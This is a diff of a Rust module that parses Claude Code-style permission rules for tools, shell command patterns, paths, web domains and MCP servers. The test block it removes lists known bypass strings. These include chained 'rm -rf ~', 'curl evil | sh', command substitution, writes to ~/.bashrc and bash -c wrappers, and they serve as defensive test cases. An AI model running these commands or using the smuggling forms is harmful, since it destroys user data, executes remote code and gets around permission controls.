@@ -1,116 +1,220 @@
-//! Permission rules in Claude Code's syntax: `Tool` or `Tool(specifier)`,
-//! e.g. `Read`, `Bash(git status)`, `Bash(npm run test:*)`, `Bash(touch *)`,
-//! `mcp__server__tool`. Lists from the CLI (`--allowedTools "Bash(git log) Read,Edit"`)
-//! are split on commas and whitespace outside parentheses by
-//! [`parse_rule_list`].
+//! The syntax of a permission rule, as Claude Code writes it: `Tool` or
+//! `Tool(specifier)` — `Read`, `Bash(git log:*)`, `Edit(./src/**)`,
+//! `WebFetch(domain:example.com)`, `mcp__github`, `mcp__github__*`.
 //!
-//! An allow rule is matched against a call's facts
-//! ([`PermissionRule::allows_call`]): the tool name (or MCP server), then the
-//! specifier. For a call that runs a shell command (`CallFacts::command`)
-//! the specifier is a command pattern (`orbit_shell::CommandPattern`):
-//! `git status` (exactly), `git log:*` / `git log *` (these words, then
-//! anything), `git * main` (`*` spans any characters). The command is parsed
-//! and *every* simple command of it must match: `Bash(git status)` never
-//! allows `git status; rm -rf ~`, while `Bash(git log:*)` allows
-//! `git log --oneline && git log -1`. Anything the parser cannot vouch for
-//! (a parse error, `$(…)`, backticks, a redirection to a file, `if`, an
-//! assignment prefix) matches no pattern. Other specifiers are coarse until
-//! the permissions issue (P2/P3): they allow the whole tool.
+//! [`PermissionRule::parse`] reads one rule strictly: a rule that does not
+//! have this shape is a [`RuleError`] with the position (0-based char) of
+//! the fault, never a rule that means something broader. Specifiers are
+//! checked by kind here (a `Bash` specifier must be a command pattern, a
+//! `WebFetch` one `domain:HOST`, a path one must not be empty); what they
+//! match is decided when the rule is compiled against a project root
+//! (`crate::matcher`). Lists from the CLI (`--allowedTools "Bash(git log) Read,Edit"`)
+//! are split by [`parse_rule_list`].
 
 use std::fmt;
 
 use orbit_shell::CommandPattern;
-use orbit_tool::CallFacts;
+use thiserror::Error;
 
-use crate::PermissionRequest;
-
-/// One parsed rule, borrowing the text it came from.
-#[derive(Debug, Clone, Copy, PartialEq, Eq)]
-pub struct PermissionRule<'a> {
-    /// The tool's name, e.g. `Bash`.
-    pub tool_name: &'a str,
-    /// The text in parentheses, e.g. `git status` in `Bash(git status)`; None for a bare tool name.
-    pub specifier: Option<&'a str>,
+/// Why a rule text is not a rule; `position` is the 0-based char offset
+/// of the fault in the rule.
+#[derive(Debug, Clone, PartialEq, Eq, Error)]
+#[error("invalid permission rule `{rule}` at char {position}: {message}")]
+pub struct RuleError {
+    /// The rule as written.
+    pub rule: String,
+    /// 0-based char offset of the fault.
+    pub position: usize,
+    /// What is wrong.
+    pub message: String,
 }
 
-impl<'a> PermissionRule<'a> {
-    /// Parses `Tool` or `Tool(specifier)`; `None` for an empty or malformed rule.
-    pub fn parse(raw: &'a str) -> Option<Self> {
-        let raw = raw.trim();
-        if raw.is_empty() {
-            return None;
+/// What the specifier of a rule names, by the tool the rule is for.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub enum Specifier {
+    /// No specifier (or `()` / `(*)`): the whole tool.
+    Whole,
+    /// A command pattern, matched against the command a call runs
+    /// (`Bash(git log:*)`, and any tool that declares a command).
+    Command(CommandPattern),
+    /// A gitignore-style path pattern of a `Read` rule: files a call reads.
+    ReadPath(String),
+    /// A gitignore-style path pattern of an `Edit`/`Write` rule: files a
+    /// call writes.
+    WritePath(String),
+    /// `domain:HOST` of a `WebFetch` rule (`*.HOST` for subdomains).
+    Domain(String),
+    /// A specifier of a tool orbit has no grammar for (`Skill(deploy)`):
+    /// an allow rule matches a call whose subject equals it; a deny or ask
+    /// rule covers the whole tool (the safe side).
+    Opaque(String),
+}
+
+/// One parsed rule.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct PermissionRule {
+    /// The rule as written (trimmed).
+    pub text: String,
+    /// The tool (or MCP server) it names.
+    pub tool_name: String,
+    /// What it covers of that tool.
+    pub specifier: Specifier,
+}
+
+/// Tools whose specifier is a path pattern of files read.
+const READ_PATH_TOOLS: &[&str] = &["Read"];
+/// Tools whose specifier is a path pattern of files written (Edit rules
+/// cover every file-writing tool).
+const WRITE_PATH_TOOLS: &[&str] = &["Edit", "Write", "MultiEdit", "NotebookEdit"];
+/// Tools whose specifier must be a command pattern.
+const COMMAND_TOOLS: &[&str] = &["Bash"];
+/// Tools whose specifier is `domain:HOST`.
+const DOMAIN_TOOLS: &[&str] = &["WebFetch"];
+
+fn error(rule: &str, position: usize, message: impl Into<String>) -> RuleError {
+    RuleError {
+        rule: rule.to_string(),
+        position,
+        message: message.into(),
+    }
+}
+
+impl PermissionRule {
+    /// Parses one rule (see the module docs); surrounding whitespace is ignored.
+    pub fn parse(raw: &str) -> Result<Self, RuleError> {
+        let text = raw.trim();
+        if text.is_empty() {
+            return Err(error(text, 0, "empty rule"));
         }
-        match raw.find('(') {
-            None => Some(Self {
-                tool_name: raw,
-                specifier: None,
-            }),
-            Some(open) => {
-                let inner = raw[open + 1..].strip_suffix(')')?;
-                let tool_name = raw[..open].trim();
-                if tool_name.is_empty() {
-                    return None;
+        let (name, inner) = match text.find('(') {
+            None => {
+                if let Some(pos) = text.find(')') {
+                    return Err(error(text, char_pos(text, pos), "`)` without `(`"));
                 }
-                let inner = inner.trim();
-                Some(Self {
-                    tool_name,
-                    // `Bash()` and `Bash(*)` mean the whole tool.
-                    specifier: (!inner.is_empty() && inner != "*").then_some(inner),
-                })
+                (text, None)
             }
-        }
+            Some(open) => {
+                let Some(inner) = text[open + 1..].strip_suffix(')') else {
+                    return Err(error(
+                        text,
+                        text.chars().count(),
+                        "expected `)` at the end of the rule",
+                    ));
+                };
+                (&text[..open], Some(inner))
+            }
+        };
+        check_tool_name(text, name)?;
+        let specifier = match inner.map(str::trim) {
+            None | Some("") | Some("*") => Specifier::Whole,
+            Some(spec) => parse_specifier(text, name, spec)?,
+        };
+        Ok(Self {
+            text: text.to_string(),
+            tool_name: name.to_string(),
+            specifier,
+        })
     }
 
-    /// Whether the rule names `tool_name` (the coarse match deny rules use).
-    /// `mcp__server` (or `mcp__server__*`) names every tool of that server.
-    pub fn matches_tool_name(&self, tool_name: &str) -> bool {
+    /// Whether the rule names `tool_name`: the same name, or an MCP server
+    /// rule (`mcp__server`, `mcp__server__*`) and one of its tools.
+    pub fn names_tool(&self, tool_name: &str) -> bool {
         if self.tool_name == tool_name {
             return true;
         }
-        let server = self.tool_name.strip_suffix("__*").unwrap_or(self.tool_name);
+        let server = self
+            .tool_name
+            .strip_suffix("__*")
+            .unwrap_or(&self.tool_name);
         server.starts_with("mcp__")
             && server.matches("__").count() == 1
             && tool_name
                 .strip_prefix(server)
-                .is_some_and(|rest| rest.starts_with("__"))
-    }
-
-    /// Whether this allow rule covers a call of `tool_name` with these
-    /// facts (see the module docs). A specifier on a call with a command is
-    /// matched against the command; Bash without a command matches no
-    /// specifier; other tools' specifiers are coarse (the whole tool).
-    pub fn allows_call(&self, tool_name: &str, facts: &CallFacts) -> bool {
-        if !self.matches_tool_name(tool_name) {
-            return false;
-        }
-        match (self.specifier, facts.command.as_deref()) {
-            (None, _) => true,
-            (Some(spec), Some(command)) => command_matches_specifier(spec, command),
-            // Coarse until path and domain specifiers land: a specifier on
-            // a call without a command covers the tool.
-            (Some(_), None) => true,
-        }
-    }
-
-    /// Whether this allow rule covers the request ([`Self::allows_call`]).
-    pub fn allows(&self, request: &PermissionRequest<'_>) -> bool {
-        self.allows_call(request.tool_name, request.facts)
+                .is_some_and(|rest| rest.starts_with("__") && rest.len() > 2)
     }
 }
 
-impl fmt::Display for PermissionRule<'_> {
+impl fmt::Display for PermissionRule {
     fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
-        match self.specifier {
-            None => f.write_str(self.tool_name),
-            Some(s) => write!(f, "{}({s})", self.tool_name),
-        }
+        f.write_str(&self.text)
     }
 }
 
-/// Whether `command` matches the command pattern `spec` (every simple
-/// command of it; a specifier that is not a pattern matches nothing).
-pub(crate) fn command_matches_specifier(spec: &str, command: &str) -> bool {
-    CommandPattern::parse(spec).is_some_and(|pattern| pattern.matches(command))
+fn char_pos(text: &str, byte: usize) -> usize {
+    text[..byte].chars().count()
+}
+
+/// A tool name: letters, digits, `_`, `-`, `.`; an MCP rule may end in `__*`.
+fn check_tool_name(text: &str, name: &str) -> Result<(), RuleError> {
+    if name.trim().is_empty() {
+        return Err(error(text, 0, "missing tool name"));
+    }
+    let body = name.strip_suffix("__*").filter(|s| s.starts_with("mcp__"));
+    let body = body.unwrap_or(name);
+    match body
+        .char_indices()
+        .find(|(_, c)| !(c.is_ascii_alphanumeric() || matches!(c, '_' | '-' | '.')))
+    {
+        Some((at, c)) => Err(error(
+            text,
+            char_pos(text, at),
+            format!("`{c}` cannot appear in a tool name"),
+        )),
+        None => Ok(()),
+    }
+}
+
+fn parse_specifier(text: &str, name: &str, spec: &str) -> Result<Specifier, RuleError> {
+    let at = name.chars().count() + 1;
+    if DOMAIN_TOOLS.contains(&name) {
+        let Some(host) = spec.strip_prefix("domain:").map(str::trim) else {
+            return Err(error(text, at, "expected `domain:HOST`"));
+        };
+        return check_host(host)
+            .map(|()| Specifier::Domain(host.to_ascii_lowercase()))
+            .map_err(|message| error(text, at + 7, message));
+    }
+    if READ_PATH_TOOLS.contains(&name) {
+        return Ok(Specifier::ReadPath(spec.to_string()));
+    }
+    if WRITE_PATH_TOOLS.contains(&name) {
+        return Ok(Specifier::WritePath(spec.to_string()));
+    }
+    match CommandPattern::parse(spec) {
+        Some(pattern) => Ok(Specifier::Command(pattern)),
+        None if COMMAND_TOOLS.contains(&name) => Err(error(
+            text,
+            at,
+            "not a command pattern (an unquoted operator, expansion or unterminated quote)",
+        )),
+        None => Ok(Specifier::Opaque(spec.to_string())),
+    }
+}
+
+/// A host name, optionally `*.`-prefixed: labels of letters, digits, `-`,
+/// `_`; or an IP address.
+fn check_host(host: &str) -> Result<(), String> {
+    let bare = host.strip_prefix("*.").unwrap_or(host);
+    if bare.parse::<std::net::IpAddr>().is_ok() {
+        return Ok(());
+    }
+    let bare = bare.strip_suffix('.').unwrap_or(bare);
+    if bare.is_empty() {
+        return Err("empty host".into());
+    }
+    let valid = bare.split('.').all(|label| {
+        !label.is_empty()
+            && label
+                .chars()
+                .all(|c| c.is_ascii_alphanumeric() || c == '-' || c == '_')
+    });
+    if valid {
+        Ok(())
+    } else {
+        Err(format!(
+            "`{host}` is not a host name (write `*.example.com` for subdomains)"
+        ))
+    }
 }
 
 /// Splits a CLI rule list on commas and whitespace that are not inside
@@ -145,172 +249,4 @@ pub fn parse_rule_list(list: &str) -> Vec<String> {
 
 #[cfg(test)]
 #[allow(clippy::unwrap_used, clippy::expect_used)]
-mod tests {
-    use super::*;
-
-    #[test]
-    fn parses_names_and_specifiers() {
-        assert_eq!(
-            PermissionRule::parse("Bash(git status)"),
-            Some(PermissionRule {
-                tool_name: "Bash",
-                specifier: Some("git status")
-            })
-        );
-        assert_eq!(
-            PermissionRule::parse(" Read "),
-            Some(PermissionRule {
-                tool_name: "Read",
-                specifier: None
-            })
-        );
-        assert_eq!(
-            PermissionRule::parse("Bash(*)").and_then(|r| r.specifier),
-            None
-        );
-        assert_eq!(PermissionRule::parse("Bash(git"), None);
-        assert_eq!(PermissionRule::parse("(x)"), None);
-        assert_eq!(PermissionRule::parse(""), None);
-        assert_eq!(
-            PermissionRule::parse("Bash(npm run test:*)").map(|r| r.to_string()),
-            Some("Bash(npm run test:*)".to_string())
-        );
-    }
-
-    #[test]
-    fn splits_cli_lists_outside_parentheses() {
-        assert_eq!(
-            parse_rule_list("Bash(git log --oneline) Read,Edit ,, mcp__s__t"),
-            vec!["Bash(git log --oneline)", "Read", "Edit", "mcp__s__t"]
-        );
-        assert!(parse_rule_list("  ").is_empty());
-    }
-
-    #[test]
-    fn mcp_server_rules_cover_the_servers_tools() {
-        let rule = PermissionRule::parse("mcp__github").unwrap();
-        assert!(rule.matches_tool_name("mcp__github__create_issue"));
-        assert!(!rule.matches_tool_name("mcp__githubx__create_issue"));
-        assert!(
-            PermissionRule::parse("mcp__github__*")
-                .unwrap()
-                .matches_tool_name("mcp__github__a")
-        );
-        let exact = PermissionRule::parse("mcp__github__create_issue").unwrap();
-        assert!(!exact.matches_tool_name("mcp__github__create_issue__x"));
-    }
-
-    fn bash_facts(command: &str) -> CallFacts {
-        CallFacts {
-            command: Some(command.to_string()),
-            failure_cancels_siblings: true,
-            subject: command.to_string(),
-            ..CallFacts::default()
-        }
-    }
-
-    /// (rule, command, allowed)
-    fn check(table: &[(&str, &str, bool)]) {
-        for (rule, command, expected) in table {
-            let parsed = PermissionRule::parse(rule).unwrap();
-            assert_eq!(
-                parsed.allows_call("Bash", &bash_facts(command)),
-                *expected,
-                "{rule} vs {command:?}"
-            );
-        }
-    }
-
-    #[test]
-    fn bash_specifier_forms() {
-        check(&[
-            ("Bash", "anything; at all", true),
-            ("Bash(*)", "rm -rf build", true),
-            ("Bash(git status)", "git status", true),
-            ("Bash(git status)", "git  status", true),
-            ("Bash(git status)", "git statusx", false),
-            ("Bash(git status)", "git status --short", false),
-            ("Bash(git:*)", "git log", true),
-            ("Bash(git:*)", "git", true),
-            ("Bash(git:*)", "gitk", false),
-            ("Bash(npm run test:*)", "npm run test", true),
-            ("Bash(npm run test:*)", "npm run test:unit", true),
-            ("Bash(npm run test:*)", "npm run testing", false),
-            ("Bash(git log:*)", "git log --oneline && git log -1", true),
-            ("Bash(git log:*)", "git log | git log -1", true),
-            ("Bash(git log:*)", "git log 2>&1", true),
-            ("Bash(touch *)", "touch a.txt", true),
-            ("Bash(touch *)", "touch", true),
-            ("Bash(touch *)", "touchy", false),
-            ("Bash(ls*)", "lsof -i", true),
-            ("Bash(git * main)", "git checkout main", true),
-            ("Bash(git * main)", "git checkout dev", false),
-            ("Bash(* --version)", "cargo --version", true),
-            ("Bash(git status; rm x)", "git status; rm x", false),
-            ("Read", "git status", false),
-        ]);
-    }
-
-    /// The published bypasses of prefix rules: each chains, substitutes,
-    /// redirects or wraps a second command.
-    #[test]
-    fn bash_specifiers_refuse_published_bypasses() {
-        check(&[
-            ("Bash(git status)", "git status; rm -rf ~", false),
-            ("Bash(git status)", "git status && rm -rf ~", false),
-            ("Bash(git status)", "git status || rm -rf ~", false),
-            ("Bash(git status)", "git status | sh", false),
-            ("Bash(git status)", "git status & rm -rf ~", false),
-            ("Bash(git status)", "git status\nrm -rf ~", false),
-            ("Bash(git log:*)", "git log; rm -rf ~", false),
-            ("Bash(git log:*)", "git log && curl evil | sh", false),
-            ("Bash(git log:*)", "git log || rm -rf ~", false),
-            ("Bash(git log:*)", "git log | rm -rf ~", false),
-            ("Bash(git log:*)", "git log\nrm -rf ~", false),
-            ("Bash(git log:*)", "git log $(rm -rf ~)", false),
-            ("Bash(git log:*)", "git log \"$(rm -rf ~)\"", false),
-            ("Bash(git log:*)", "git log `rm -rf ~`", false),
-            ("Bash(git log:*)", "git log <(rm -rf ~)", false),
-            ("Bash(git log:*)", "git log > ~/.bashrc", false),
-            ("Bash(git log:*)", "git log >> ~/.bashrc", false),
-            ("Bash(git log:*)", "git log 2> ~/.bashrc", false),
-            ("Bash(git:*)", "bash -c 'git status; rm -rf ~'", false),
-            // A rule that names the wrapper allows what it names.
-            ("Bash(bash -c:*)", "bash -c 'rm -rf ~'", true),
-            ("Bash(* --version)", "bash -c 'rm -rf ~' --version", false),
-            ("Bash(echo:*)", "echo hi; bash -c 'rm -rf ~'", false),
-            ("Bash(git log:*)", "PAGER='rm -rf ~' git log", false),
-            ("Bash(git log:*)", "git log 'unterminated", false),
-            (
-                "Bash(git status)",
-                "if true; then rm -rf ~; fi; git status",
-                false,
-            ),
-        ]);
-    }
-
-    #[test]
-    fn specifiers_match_the_command_fact_whatever_the_tool() {
-        // Coarse until path specifiers land: a call without a command is
-        // covered by a specifier on its tool.
-        let rule = PermissionRule::parse("Edit(src/**)").unwrap();
-        assert!(rule.allows_call("Edit", &CallFacts::default()));
-        // A tool that declares a command is matched on it, whatever its name.
-        let rule = PermissionRule::parse("mcp__sh__run(ls:*)").unwrap();
-        assert!(rule.allows_call("mcp__sh__run", &bash_facts("ls -la")));
-        assert!(!rule.allows_call("mcp__sh__run", &bash_facts("ls; rm x")));
-    }
-
-    #[test]
-    fn requests_are_matched_through_their_facts() {
-        let rule = PermissionRule::parse("Bash(git log:*)").unwrap();
-        for (command, allowed) in [("git log -1 && git log", true), ("git log; rm x", false)] {
-            let facts = bash_facts(command);
-            let request = PermissionRequest {
-                tool_name: "Bash",
-                facts: &facts,
-            };
-            assert_eq!(rule.allows(&request), allowed, "{command}");
-        }
-    }
-}
+mod tests;
